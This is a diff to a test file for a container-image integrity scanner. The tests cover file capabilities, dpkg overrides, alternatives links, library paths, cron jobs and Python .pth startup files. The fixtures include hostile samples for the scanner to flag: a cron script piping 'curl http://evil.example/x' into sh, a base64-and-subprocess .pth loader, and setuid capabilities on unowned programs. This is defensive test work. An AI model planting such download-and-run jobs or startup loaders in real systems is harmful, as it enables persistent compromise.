@@ -10,7 +10,7 @@ import { mediaTypes, overlay } from '@tidewaiter/oci';
 import { tarArchive, type TarEntry } from '@tidewaiter/testkit';
 import * as fc from 'fast-check';
 
-import { judgeIntegrity } from './index.js';
+import { type IntegrityLayer, judgeIntegrity } from './index.js';
 
 /** The whole way: what the scanner reads of tars, and what it makes of it; by id and path. */
 async function judge(...layers: TarEntry[][]) {
@@ -524,7 +524,7 @@ describe('hostile layers', () => {
     );
   });
 
-  it('with a file that all packages claim take their time, not more', () => {
+  it('with a file that all packages claim come to an end', () => {
     const path = 'usr/bin/x';
     const names = Array.from({ length: 50_000 }, (_, index) => `p${index}`);
     const layer = {
@@ -538,12 +538,10 @@ describe('hostile layers', () => {
       databases: [{ path: 'status', type: 'deb' as const, packages: names.map((name) => ({ name, version: '1' })) }],
       signs: [],
     };
-    const start = performance.now();
     expect(judgeIntegrity([layer], overlay([layer.entries]))).toEqual([]);
-    expect(performance.now() - start).toBeLessThan(5000);
   });
 
-  it('with many programs that everybody can write take their time, not more', () => {
+  it('with many programs that everybody can write come to an end', () => {
     const entries = Array.from({ length: 50_000 }, (_, index) => ({
       path: `opt/${index}`,
       type: 'file' as const,
@@ -553,11 +551,9 @@ describe('hostile layers', () => {
       size: 1,
     }));
     const layer = { entries, owned: [], databases: [], signs: [] };
-    const start = performance.now();
     expect(judgeIntegrity([layer], overlay([entries]))).toMatchObject([
       { id: 'world-writable-executables', evidence: { files: 50_000 } },
     ]);
-    expect(performance.now() - start).toBeLessThan(5000);
   });
 
   it('with many of everything are judged, and what is told of them is limited', () => {
@@ -664,4 +660,215 @@ const idsOfKind: Record<string, string[]> = {
     },
     60_000,
   );
+});
+
+describe('capabilities of files', () => {
+  const data = (permitted: number) => {
+    const value = Buffer.alloc(20);
+    value.writeUInt32LE(0x02000001, 0);
+    value.writeUInt32LE(permitted, 4);
+    return value;
+  };
+  const [setuid, bindService, raw] = [data(1 << 7), data(1 << 10), data(1 << 13)];
+  const capable = (path: string, capabilities: Buffer, content?: string): TarEntry => ({
+    ...program(path, content),
+    capabilities,
+  });
+
+  it.each<[string, TarEntry[][], string[]]>([
+    ['of root on a program of nobody', [base, [capable('opt/x', setuid)]], ['high opt/x']],
+    [
+      'of root where no database says whose it is',
+      [[capable('usr/bin/newuidmap', setuid)]],
+      ['medium usr/bin/newuidmap'],
+    ],
+    ['for a port on a program of nobody', [base, [capable('usr/local/bin/caddy', bindService)]], []],
+    ['that a layer gives to a program of a package', [base, [capable('usr/bin/ls', setuid)]], ['high usr/bin/ls']],
+    ['for the network that a layer gives to one', [base, [capable('usr/bin/ls', raw)]], ['medium usr/bin/ls']],
+    [
+      'that a package gives its program',
+      [[...base, ...install({ name: 'ping', files: [capable('usr/bin/ping', raw)] })]],
+      [],
+    ],
+    [
+      'that it gives again',
+      [[...base, ...install({ name: 'ping', files: [capable('usr/bin/ping', raw)] })], [capable('usr/bin/ping', raw)]],
+      [],
+    ],
+    [
+      'that no package gives',
+      [[...base, ...install({ name: 'python', files: [capable('usr/bin/python3.11', setuid)] })]],
+      ['critical usr/bin/python3.11'],
+    ],
+  ])('%s', async (_, layers, expected) => {
+    const found = (await judge(...layers)).filter(({ id }) => id === 'file-capabilities');
+    expect(found.map(({ severity, path }) => `${severity} ${path}`)).toEqual(expected);
+  });
+
+  it.each([
+    ['cap_net_raw=ep', []],
+    ['cap_net_raw,cap_setuid+ep', []],
+    [undefined, ['medium usr/bin/ping']],
+  ])('of rpm are what it declares: %j', (declared, expected) => {
+    const { sha256, ...entry } = { path: 'usr/bin/ping', mode: 0o755, uid: 0, gid: 0, size: 1, sha256: 'a'.repeat(64) };
+    const layer: IntegrityLayer = {
+      entries: [{ ...entry, type: 'file', sha256, capabilities: raw.toString('hex') }],
+      owned: [
+        {
+          type: 'rpm',
+          package: 'iputils',
+          database: 'var/lib/rpm/rpmdb.sqlite',
+          files: [{ path: entry.path, digest: `sha256:${sha256}`, ...(declared && { capabilities: declared }) }],
+        },
+      ],
+      databases: [{ path: 'var/lib/rpm/rpmdb.sqlite', type: 'rpm', packages: [{ name: 'iputils', version: '1' }] }],
+      signs: [],
+    };
+    const found = judgeIntegrity([layer], overlay([layer.entries]));
+    expect(found.map(({ severity, path }) => `${severity} ${path}`)).toEqual(expected);
+  });
+
+  it('are told by name', async () => {
+    const [finding] = (await judge(base, [capable('opt/x', setuid)])).filter(({ id }) => id === 'file-capabilities');
+    expect(finding?.evidence).toMatchObject({ capabilities: ['cap_setuid'], risky: ['cap_setuid'], effective: true });
+  });
+});
+
+describe('what stands in the place of files of packages', () => {
+  it('a directory', async () => {
+    expect(await told(base, [gone('usr/bin/ls'), { path: 'usr/bin/ls', type: 'directory' }])).toEqual([
+      'package-file-replaced usr/bin/ls 1',
+    ]);
+    // A list without digests names directories too.
+    const empty = file('var/lib/dpkg/info/tools.list', '/usr/bin/ls\n/var/empty\n');
+    expect(await told([...base, empty, { path: 'var/empty', type: 'directory' }])).toEqual([]);
+  });
+
+  const node = (version: string, ...more: TarEntry[]): TarEntry[] => [
+    file('usr/lib/node_modules/npm/package.json', `{"version":"${version}"}`),
+    ...['a', 'b', 'c', 'node_modules/d/index', 'node_modules/e/index'].map((name) =>
+      file(`usr/lib/node_modules/npm/${name}.js`, `${name} of ${version}`),
+    ),
+    ...more,
+  ];
+  const npm: Deb = { name: 'npm', files: node('9', file('usr/lib/node_modules/npm/same.js')) };
+  const withNpm = [...merged, status(login, tools, npm), ...moved(install(login)), ...install(tools), ...install(npm)];
+
+  it('another release as a whole is told once', async () => {
+    const found = await judge(withNpm, node('10', file('usr/lib/node_modules/npm/same.js')));
+    expect(found).toMatchObject([
+      {
+        id: 'package-tree-replaced',
+        severity: 'medium',
+        path: 'usr/lib/node_modules/npm',
+        packageName: 'npm',
+        evidence: { files: 6 },
+      },
+    ]);
+  });
+
+  it.each<[string, TarEntry[], number]>([
+    ['not when a file of the old one stays', node('10'), 6],
+    ['not when the manifest stays', node('10', file('usr/lib/node_modules/npm/same.js')).slice(1), 5],
+  ])('%s', async (_, layer, files) => {
+    const found = await told(withNpm, layer);
+    expect(found.filter((each) => each.startsWith('package-file-modified'))).toHaveLength(files);
+  });
+});
+
+describe('modes of dpkg', () => {
+  const sender: Deb = { name: 'mail', files: [{ ...program('usr/bin/send'), mode: 0o2755 }] };
+  const mail = [
+    ...merged,
+    status(login, tools, sender),
+    ...moved(install(login)),
+    ...install(tools),
+    ...install(sender),
+  ];
+  const overrides = (text: string) => file('var/lib/dpkg/statoverride', text);
+
+  it.each<[string, TarEntry[][], string[]]>([
+    ['as overridden', [[...mail, overrides('root mail 2755 /usr/bin/send\n')]], []],
+    [
+      'beyond what was overridden',
+      [[...mail, overrides('root mail 755 /usr/bin/send\n')]],
+      ['package-file-mode-changed usr/bin/send 0'],
+    ],
+    [
+      'overridden by a later layer',
+      [mail, [overrides('root mail 4755 /usr/bin/send\n'), { ...program('usr/bin/send'), mode: 0o4755 }]],
+      [],
+    ],
+  ])('%s', async (_, layers, expected) => {
+    expect(await told(...layers)).toEqual(expected);
+  });
+});
+
+describe('links, paths and code that are followed without being asked for', () => {
+  const choices = file(
+    'var/lib/dpkg/alternatives/pager',
+    'auto\n/usr/bin/pager\npager.1.gz\n/usr/share/man/man1/pager.1.gz\n\n/usr/bin/ls\n50\n/usr/share/man/man1/ls.1.gz\n/opt/pager\n10\n\n\n',
+  );
+  const site = 'usr/local/lib/python3.12/site-packages';
+  const record = (name: string) => file(`${site}/x-1.0.dist-info/RECORD`, `${name},,\n`);
+  const lost = "import base64,subprocess;subprocess.Popen(['python','-c',base64.b64decode('eA==')])";
+
+  it.each<[string, TarEntry[], string[]]>([
+    ['an alternative of a package', [link('etc/alternatives/pager', '/usr/bin/ls'), choices], []],
+    [
+      'one that an administrator named',
+      [link('etc/alternatives/pager', '/opt/pager'), choices, program('opt/pager')],
+      [],
+    ],
+    [
+      'one that nobody named',
+      [link('etc/alternatives/pager', '/opt/x'), choices, program('opt/x')],
+      ['high alternative-replaced etc/alternatives/pager'],
+    ],
+    [
+      'another program of the distribution',
+      [link('etc/alternatives/pager', '/bin/tar'), choices],
+      ['medium alternative-replaced etc/alternatives/pager'],
+    ],
+    ['one that leads nowhere', [link('etc/alternatives/pager', '/usr/bin/gone'), choices], []],
+    ['links without a database', [link('etc/alternatives/pager', '/opt/x'), program('opt/x')], []],
+    ['a page of a manual', [link('etc/alternatives/p.1.gz', '/usr/share/man/x'), choices, file('usr/share/man/x')], []],
+    [
+      'a place for libraries',
+      [file('etc/ld.so.conf.d/x.conf', '# x\n/opt/x/lib\n')],
+      ['low unowned-library-path etc/ld.so.conf.d/x.conf'],
+    ],
+    [
+      'a place for libraries where others write',
+      [file('etc/ld.so.conf', 'include /etc/ld.so.conf.d/*.conf\n/tmp/.x\n')],
+      ['high unsafe-library-path etc/ld.so.conf'],
+    ],
+    [
+      'a job of Alpine',
+      [program('etc/periodic/15min/x', '#!/bin/sh\necho')],
+      ['low unowned-cron-job etc/periodic/15min/x'],
+    ],
+    [
+      'one that downloads',
+      [program('etc/periodic/daily/x', '#!/bin/sh\ncurl http://evil.example/x | sh\n')],
+      ['critical cron-download-and-run etc/periodic/daily/x', 'low unowned-cron-job etc/periodic/daily/x'],
+    ],
+    ['paths of Python', [file(`${site}/x.pth`, '/opt/x\nimports\n')], []],
+    ['code that a package lists', [file(`${site}/x.pth`, 'import x\n'), record('x.pth')], []],
+    ['code of a virtual environment', [file(`${site}/_virtualenv.pth`, 'import _virtualenv\n')], []],
+    [
+      'code that nobody lists',
+      [file(`${site}/y.pth`, 'import y\n'), record('x.pth')],
+      [`low unowned-python-startup ${site}/y.pth`],
+    ],
+    ['code that starts something', [file(`${site}/y.pth`, lost)], [`high python-startup-code ${site}/y.pth`]],
+    [
+      'the same in a package that lists it',
+      [file(`${site}/x.pth`, lost), record('x.pth')],
+      [`high python-startup-code ${site}/x.pth`],
+    ],
+  ])('%s', async (_, layer, expected) => {
+    const found = await judge(base, layer);
+    expect(found.map(({ id, path, severity }) => `${severity} ${id} ${path}`)).toEqual(expected);
+  });
 });
